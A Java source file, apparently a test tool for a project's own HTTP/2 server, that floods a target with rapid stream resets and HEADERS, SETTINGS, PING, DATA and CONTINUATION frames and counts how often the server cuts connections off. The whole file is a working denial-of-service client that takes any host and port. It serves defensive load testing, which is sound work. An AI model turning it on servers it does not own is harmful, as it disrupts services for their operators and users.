package io.keelson.system;

import java.io.BufferedInputStream;
import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.EOFException;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Scanner;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * Clients of HTTP/2 that cost the server more than themselves. A program of its own and nothing but the JDK:
 *
 * <pre>java -cp target/test-classes io.keelson.system.Http2Flood HOST:PORT PATH CONNECTIONS_A_SECOND</pre>
 *
 * <p>For each line {@code KIND SECONDS} or {@code KIND SECONDS sink} on standard input it prints {@code flooding} and then, so many times
 * a second, opens a connection, sends some four times as many frames of that kind as a server permits, without reading, and waits for the
 * end. Afterwards it prints {@code KIND connections=N cut=N reset=N open=N frames=N}: {@code cut} are those that the server has ended
 * with ENHANCE_YOUR_CALM, {@code reset} those that broke before that could be read, {@code open} those that it has not ended in five
 * seconds. With {@code sink} the same is sent to a socket of this program, which throws it away: what the flood costs the machine without
 * the server.
 */
final class Http2Flood {
    private static final int DATA = 0;
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int GOAWAY = 7;
    private static final int CONTINUATION = 9;
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;
    private static final int ENHANCE_YOUR_CALM = 11;
    private static final int MANY = 20_000;
    private static final int SOME = 2_000;

    private final InetSocketAddress server;
    private final String path;
    private final int rate;
    private final AtomicInteger cut = new AtomicInteger();
    private final AtomicInteger reset = new AtomicInteger();
    private final AtomicInteger open = new AtomicInteger();

    private Http2Flood(String server, String path, int rate) {
        int colon = server.lastIndexOf(':');
        this.server = new InetSocketAddress(server.substring(0, colon), Integer.parseInt(server.substring(colon + 1)));
        this.path = path;
        this.rate = rate;
    }

    public static void main(String[] arguments) throws Exception {
        Http2Flood flood = new Http2Flood(arguments[0], arguments[1], Integer.parseInt(arguments[2]));
        try (Scanner in = new Scanner(System.in, StandardCharsets.US_ASCII)) {
            while (in.hasNextLine()) {
                String[] words = in.nextLine().split(" ");
                flood.run(words[0], Integer.parseInt(words[1]), words.length > 2);
            }
        }
    }

    private void run(String kind, int seconds, boolean toSink) throws IOException, InterruptedException {
        byte[] bytes = bytes(kind);
        if (toSink) {
            try (Sink sink = new Sink(bytes.length)) {
                run(kind, bytes, seconds, sink.address());
            }
        } else {
            run(kind, bytes, seconds, server);
        }
    }

    private void run(String kind, byte[] bytes, int seconds, InetSocketAddress target) throws InterruptedException {
        cut.set(0);
        reset.set(0);
        open.set(0);
        ExecutorService clients = Executors.newCachedThreadPool();
        int count = rate * seconds;
        long start = System.nanoTime();
        System.out.println("flooding");
        for (int i = 0; i < count; i++) {
            long wait = start + 1_000_000_000L * i / rate - System.nanoTime();
            TimeUnit.NANOSECONDS.sleep(Math.max(0, wait));
            clients.execute(() -> flood(bytes, target));
        }
        clients.shutdown();
        if (!clients.awaitTermination(30, TimeUnit.SECONDS)) {
            clients.shutdownNow();
        }
        System.out.println(kind + " connections=" + count + " cut=" + cut + " reset=" + reset + " open=" + open
                + " frames=" + (long) count * frames(kind));
    }

    private void flood(byte[] bytes, InetSocketAddress target) {
        try (Socket socket = new Socket(target.getAddress(), target.getPort())) {
            socket.setSoTimeout(5_000);
            socket.getOutputStream().write(bytes);
            (endsCalmed(new DataInputStream(new BufferedInputStream(socket.getInputStream()))) ? cut : open)
                    .incrementAndGet();
        } catch (java.net.SocketTimeoutException e) {
            open.incrementAndGet();
        } catch (IOException e) {
            reset.incrementAndGet();
        }
    }

    private static boolean endsCalmed(DataInputStream in) throws IOException {
        boolean calmed = false;
        try {
            while (true) {
                int length = in.readUnsignedByte() << 16 | in.readUnsignedShort();
                int type = in.readUnsignedByte();
                in.readFully(new byte[5]);
                byte[] payload = new byte[length];
                in.readFully(payload);
                calmed |= type == GOAWAY && payload[7] == ENHANCE_YOUR_CALM;
            }
        } catch (EOFException end) {
            return calmed;
        }
    }

    /** Takes so many bytes of each connection, and ends it as a server would. */
    private static final class Sink implements AutoCloseable {
        private final ServerSocket socket = new ServerSocket(0, 200, InetAddress.getLoopbackAddress());
        private final ExecutorService readers = Executors.newCachedThreadPool();
        private final int size;

        Sink(int size) throws IOException {
            this.size = size;
            readers.execute(this::accept);
        }

        InetSocketAddress address() {
            return (InetSocketAddress) socket.getLocalSocketAddress();
        }

        private void accept() {
            while (!socket.isClosed()) {
                try {
                    Socket client = socket.accept();
                    readers.execute(() -> take(client));
                } catch (IOException e) {
                    return; // closed
                }
            }
        }

        private void take(Socket client) {
            byte[] buffer = new byte[64 * 1024];
            try (client) {
                for (int left = size; left > 0; ) {
                    left -= Math.max(1, client.getInputStream().read(buffer));
                }
                Frames end = new Frames();
                end.add(GOAWAY, 0, 0, new byte[] {0, 0, 0, 0, 0, 0, 0, ENHANCE_YOUR_CALM});
                client.getOutputStream().write(end.out.toByteArray());
            } catch (IOException e) {
                // The flood counts it.
            }
        }

        @Override
        public void close() throws IOException {
            socket.close();
            readers.shutdown();
        }
    }

    // ---- what is sent

    private static int frames(String kind) {
        return switch (kind) {
            case "reset", "headers" -> 2 * SOME;
            case "settings" -> SOME;
            default -> MANY;
        };
    }

    private byte[] bytes(String kind) {
        Frames frames = new Frames();
        frames.out.writeBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        frames.add(SETTINGS, 0, 0);
        switch (kind) {
            case "reset" -> {
                byte[] request = request(0x82);
                for (int i = 0; i < SOME; i++) {
                    frames.add(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, request);
                    frames.add(RST_STREAM, 0, 2 * i + 1, new byte[] {0, 0, 0, 8});
                }
            }
            // A request without a field, which is none.
            case "headers" -> {
                for (int i = 0; i < 2 * SOME; i++) {
                    frames.add(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1);
                }
            }
            case "settings" -> repeat(SOME, () -> frames.add(SETTINGS, 0, 0));
            case "ping" -> repeat(MANY, () -> frames.add(PING, 0, 0, new byte[8]));
            case "data" -> {
                frames.add(HEADERS, END_HEADERS, 1, request(0x83));
                repeat(MANY, () -> frames.add(DATA, 0, 1));
            }
            case "continuation" -> {
                frames.add(HEADERS, 0, 1, request(0x82));
                repeat(MANY, () -> frames.add(CONTINUATION, 0, 1));
            }
            default -> throw new IllegalArgumentException(kind);
        }
        return frames.out.toByteArray();
    }

    private static void repeat(int count, Runnable what) {
        for (int i = 0; i < count; i++) {
            what.run();
        }
    }

    /** A header block: method and scheme of the static table, path and authority in letters. */
    private byte[] request(int method) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        block.write(method);
        block.write(0x86);
        literal(block, 4, path);
        literal(block, 1, "a");
        return block.toByteArray();
    }

    private static void literal(ByteArrayOutputStream block, int name, String value) {
        block.write(name);
        block.write(value.length());
        block.writeBytes(value.getBytes(StandardCharsets.US_ASCII));
    }

    /** Frames, one behind the other. */
    private static final class Frames {
        final ByteArrayOutputStream out = new ByteArrayOutputStream();

        void add(int type, int flags, int stream, byte... payload) {
            byte[] header = new byte[9];
            header[1] = (byte) (payload.length >> 8);
            header[2] = (byte) payload.length;
            header[3] = (byte) type;
            header[4] = (byte) flags;
            for (int i = 0; i < 4; i++) {
                header[5 + i] = (byte) (stream >> 24 - 8 * i);
            }
            out.writeBytes(header);
            out.writeBytes(Arrays.copyOf(payload, payload.length));
        }
    }
}
